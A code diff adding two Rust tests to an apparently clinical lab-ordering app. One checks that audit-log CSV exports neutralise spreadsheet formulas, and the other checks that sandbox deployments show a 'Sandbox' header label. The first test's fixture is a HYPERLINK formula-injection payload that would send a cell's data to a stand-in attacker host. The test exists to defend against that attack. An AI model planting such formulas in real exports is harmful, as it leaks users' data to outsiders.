@@ -330,3 +330,78 @@ fn csm_sees_platform_accounts_and_others_may_not() {
         assert!(page.text().contains("Cardiology"));
     });
 }
+
+#[test]
+fn audit_csv_cells_that_start_like_a_formula_are_quoted_as_text() {
+    use labdesk::db::audit::{record, Actor, AuditEntry};
+    each_backend(|app| {
+        let formula = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Details")"#;
+        let entity = app.world.account("BR-7781");
+        record(
+            &mut app.conn(),
+            &Actor::system("@SUM(1+1)"),
+            AuditEntry {
+                action: "lab_account.edited",
+                entity_type: "lab_account",
+                entity_id: entity,
+                org_id: Some(&app.world.org_id),
+                team_id: None,
+                summary: formula.to_string(),
+                details: serde_json::json!({}),
+            },
+        )
+        .unwrap();
+        let c = app.login(OPS);
+        let csv = c.get(&org_url(app, &format!("/audit.csv?entity_id={entity}")));
+        assert_eq!(csv.status, 200);
+        let mut reader = ::csv::Reader::from_reader(csv.body.as_bytes());
+        let row = reader
+            .records()
+            .map(Result::unwrap)
+            .find(|r| r[9].contains("HYPERLINK"))
+            .unwrap_or_else(|| panic!("the row is exported: {}", csv.body));
+        assert_eq!(&row[9], format!("'{formula}"), "summary");
+        assert_eq!(&row[3], "'@SUM(1+1)", "actor");
+        // Ordinary cells are untouched, and the page shows the summary as it was written.
+        assert_eq!(&row[6], entity);
+        let page = c.get(&org_url(app, &format!("/audit?entity_id={entity}")));
+        assert!(page.text().contains("=HYPERLINK("), "{}", page.text());
+        assert!(!page.text().contains("'=HYPERLINK("), "{}", page.text());
+    });
+}
+
+/// The layout's header, where the deployment marker sits.
+fn topbar(html: &str) -> &str {
+    let start = html.find(r#"<header class="topbar">"#).expect("a topbar");
+    let end = start + html[start..].find("</header>").expect("its end");
+    &html[start..end]
+}
+
+#[test]
+fn a_sandbox_deployment_says_so_on_every_page_and_production_does_not() {
+    for backend in crate::helpers::backends() {
+        for (env, marked) in [("sandbox", true), ("production", false)] {
+            let app = TestApp::spawn_in(backend, env);
+            let team = app.world.team("Primary Care");
+            let pages = [
+                (OPS, org_url(&app, "/lab_accounts")),
+                (OPS, org_url(&app, "/orders")),
+                (OPS, org_url(&app, "/audit")),
+                (CSM, "/platform/lab_keys".to_string()),
+                (CLINICIAN, org_url(&app, &format!("/teams/{team}"))),
+                (
+                    CLINICIAN,
+                    org_url(&app, &format!("/teams/{team}/orders/new")),
+                ),
+            ];
+            for (who, url) in pages {
+                let page = app.login(who).get(&url);
+                assert_eq!(page.status, 200, "{env} {url}");
+                let header = topbar(&page.body);
+                // In words, not only a colour (the seeded audit rows may say "Sandbox" elsewhere).
+                assert_eq!(header.contains(">Sandbox</strong>"), marked, "{env} {url}");
+                assert_eq!(header.contains("Sandbox"), marked, "{env} {url}");
+            }
+        }
+    }
+}
